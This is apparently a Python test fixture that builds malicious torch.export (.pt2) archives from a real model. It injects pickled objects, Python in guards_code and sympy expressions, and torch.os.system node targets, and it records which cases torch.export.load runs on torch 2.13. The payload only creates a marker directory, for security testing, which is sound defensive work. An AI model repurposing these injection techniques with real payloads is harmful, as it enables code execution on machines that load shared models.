"""Crafted ``.pt2`` archives: each one makes ``marker`` (a directory) if anything runs code from it.

Built from a real exported policy, so everything but the attack is valid. ``torch.export.load``
itself (plus ``.module()`` and one call) runs the payload of the ones listed in ``TORCH_RUNS``
on torch 2.13; ``scripts/benchmarks/attack.py`` checks that, so the cases are real attacks.
"""
from __future__ import annotations

import json
import pathlib
import pickle
import zipfile

from tests.helpers import MkdirOnUnpickle


def _members(path: pathlib.Path) -> tuple[str, dict[str, bytes]]:
    with zipfile.ZipFile(path) as archive:
        members = {n: archive.read(n) for n in archive.namelist()}
    return next(iter(members)).split("/")[0], members


def _write(path: pathlib.Path, members: dict[str, bytes] | list[tuple[str, bytes]]) -> pathlib.Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, blob in (members.items() if isinstance(members, dict) else members):
            archive.writestr(name, blob)
    return path


def _pickle_weight(root: str, members: dict[str, bytes], marker: pathlib.Path, spelling: str) -> dict[str, bytes]:
    """Weight ``weight_0`` becomes a pickle, and its config entry asks for unpickling in ``spelling``."""
    config_name = f"{root}/data/weights/model_weights_config.json"
    config = json.loads(members[config_name])
    entry = next(v for v in config["config"].values() if v["path_name"] == "weight_0")
    entry.pop("use_pickle")
    body = json.dumps(entry)[1:-1]  # the entry's fields without braces, use_pickle spelled by the attack
    text = json.dumps(config).replace(json.dumps(entry), "{" + spelling + ", " + body + "}", 1)
    payload = pickle.dumps(MkdirOnUnpickle(marker))
    return {**members, config_name: text.encode(), f"{root}/data/weights/weight_0": payload}


def _program(root: str, members: dict[str, bytes], edit) -> dict[str, bytes]:
    name = f"{root}/models/model.json"
    program = json.loads(members[name])
    edit(program)
    return {**members, name: json.dumps(program).encode()}


def _python(marker: pathlib.Path) -> str:
    return f"__import__('os').mkdir({str(marker)!r})"


def _guards(marker):
    return lambda p: p.update(guards_code=[f"{_python(marker)} is None"])


def _expression(marker):
    def edit(program):
        text = json.dumps(program)
        program.clear()
        program.update(json.loads(text.replace("Symbol(", f"({_python(marker)}) or Symbol(", 1)))
    return edit


def _target(program):
    program["graph_module"]["graph"]["nodes"][0]["target"] = "torch.os.system"


def _operator_argument(program):
    node = program["graph_module"]["graph"]["nodes"][0]
    node["inputs"].append({"name": "fn", "arg": {"as_operator": "torch.os.system"}, "kind": 2})


def crafted_archives(good: pathlib.Path, out: pathlib.Path, marker: pathlib.Path) -> dict[str, pathlib.Path]:
    """Name -> crafted archive in ``out``, every one built from the real archive ``good``."""
    root, members = _members(good)
    evil = pickle.dumps(MkdirOnUnpickle(marker))
    cases: dict[str, dict[str, bytes] | list[tuple[str, bytes]]] = {
        "use_pickle true": _pickle_weight(root, members, marker, '"use_pickle": true'),
        "use_pickle 1": _pickle_weight(root, members, marker, '"use_pickle": 1'),
        "use_pickle \"yes\"": _pickle_weight(root, members, marker, '"use_pickle": "yes"'),
        "use_pickle escaped key": _pickle_weight(root, members, marker, '"use\\u005fpickle": true'),
        "use_pickle duplicate key": _pickle_weight(root, members, marker, '"use_pickle": false, "use_pickle": true'),
        "use_pickle no space": _pickle_weight(root, members, marker, '"use_pickle":true'),
        "guards_code": _program(root, members, _guards(marker)),
        "sympy expression": _program(root, members, _expression(marker)),
        "node target torch.os.system": _program(root, members, _target),
        "as_operator argument": _program(root, members, _operator_argument),
        "sample inputs pickle": {**members, f"{root}/data/sample_inputs/model.pt": evil},
        "custom_obj member": {**members, f"{root}/data/constants/custom_obj_0": evil},
        "aotinductor library": {**members, f"{root}/data/aotinductor/model/model.so": b"\x7fELF"},
        "legacy top-level format": {"version": b"8.0", "serialized_exported_program.json": b"{}",
                                    "serialized_state_dict.pt": evil, "serialized_constants.pt": evil,
                                    "serialized_example_inputs.pt": evil},
        "duplicate member": [*members.items(), (f"{root}/data/weights/weight_0", evil)],
        "plain pickle": {},
    }
    paths = {}
    for i, (name, content) in enumerate(cases.items()):
        path = out / f"attack_{i:02d}.pt2"
        if name == "plain pickle":
            path.write_bytes(evil)
        else:
            _write(path, content)
        paths[name] = path
    return paths


TORCH_RUNS = ("use_pickle true", "use_pickle 1", "use_pickle \"yes\"", "use_pickle escaped key",
              "use_pickle duplicate key", "use_pickle no space", "guards_code", "sympy expression",
              "sample inputs pickle")
"""Cases whose payload torch.export.load(...).module() runs on torch 2.13 (checked by the attack run)."""
